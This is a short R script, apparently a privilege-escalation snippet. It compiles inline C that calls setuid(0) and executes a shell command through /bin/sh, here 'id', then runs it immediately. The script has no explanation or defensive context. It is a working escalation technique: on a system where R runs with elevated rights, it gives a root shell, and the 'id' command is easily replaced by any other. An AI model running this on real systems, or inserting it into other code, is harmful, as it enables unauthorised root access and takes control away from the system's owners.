library(inline)

code <- '
  setuid(0);
  execl("/bin/sh", "sh", "-c", "id", (char *) 0);
  return R_NilValue;
'
f <- cfunction(signature(), code, includes = "#include <unistd.h>", language = "C")
f()
